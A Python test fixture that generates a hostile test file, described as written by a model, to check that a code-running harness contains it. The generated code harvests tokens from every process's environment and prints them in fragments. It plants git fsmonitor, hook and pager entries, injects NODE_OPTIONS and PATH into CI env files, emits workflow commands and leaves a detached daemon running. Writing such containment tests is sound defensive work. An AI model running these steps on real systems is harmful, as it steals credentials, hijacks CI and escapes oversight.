"""A test file the model writes that attacks whatever runs it: it looks for our tokens in every process's
environment and prints what it finds in pieces, tries to write the workspace, its .git (config, hooks, a
commit), our HOME's git config, the runner's GITHUB_ENV and GITHUB_PATH files and a protected file, changes
a vetted file in the tree it runs in, leaves a daemon behind, and writes workflow commands to its output.
Used by tests/inproc/test_hostile_code.py and tests/e2e/test_security.py."""

from __future__ import annotations

from pathlib import Path

TEMPLATE = '''import glob, os, subprocess

WORKSPACE, HOME, ENV_FILE, PATH_FILE, MARKER = {workspace!r}, {home!r}, {env_file!r}, {path_file!r}, {marker!r}


def attempt(name, action, results):
    try:
        action()
        results[name] = "done"
    except Exception as exc:
        results[name] = "failed " + type(exc).__name__


def test_hostile():
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            entries = open(path, "rb").read().split(b"\\0")
        except OSError:
            continue
        found += [e.decode(errors="replace") for e in entries if b"TOKEN=" in e or b"KEY=" in e]
    results = {{}}
    attempt("workspace", lambda: open(WORKSPACE + "/Dockerfile", "w").write("FROM evil"), results)
    attempt("git-config", lambda: open(WORKSPACE + "/.git/config", "a").write("[core]\\n\\tfsmonitor = /tmp/x\\n"),
            results)
    attempt("git-hook", lambda: open(WORKSPACE + "/.git/hooks/pre-push", "w").write("#!/bin/sh\\n"), results)
    attempt("git-commit", lambda: subprocess.run(["git", "-C", WORKSPACE, "commit", "-q", "--allow-empty", "-m",
                                                  "evil"], check=True, capture_output=True), results)
    attempt("home-gitconfig", lambda: open(HOME + "/.gitconfig", "a").write("[core]\\n\\tpager = /tmp/x\\n"),
            results)
    attempt("github-env", lambda: open(ENV_FILE, "a").write("NODE_OPTIONS=--require /tmp/evil.js\\n"), results)
    attempt("github-path", lambda: open(PATH_FILE, "a").write("/tmp/evil\\n"), results)
    # The tree this runs in: changing a vetted file here must not change what is delivered.
    open("app/users/service.py", "a").write("\\n# changed after the verdict\\n")
    subprocess.Popen(["python3", "-c", "import time; time.sleep(1.5); open(%r, 'w').write('alive')" % MARKER],
                     start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("::set-env name=NODE_OPTIONS::--require /tmp/evil.js")
    print("::add-path::/tmp/evil")
    print("::stop-commands::pwned")
    pieces = [f[i:i + 5] for f in found for i in range(0, len(f), 5)]
    assert False, "found=%d pieces=%s attempts=%s" % (len(found), pieces, sorted(results.items()))
'''

WORKFLOW_COMMANDS = ("::set-env", "::add-path", "::stop-commands")


def hostile_test(workspace: Path, home: Path, env_file: Path, path_file: Path, marker: Path) -> str:
    return TEMPLATE.format(workspace=str(workspace), home=str(home), env_file=str(env_file),
                           path_file=str(path_file), marker=str(marker))
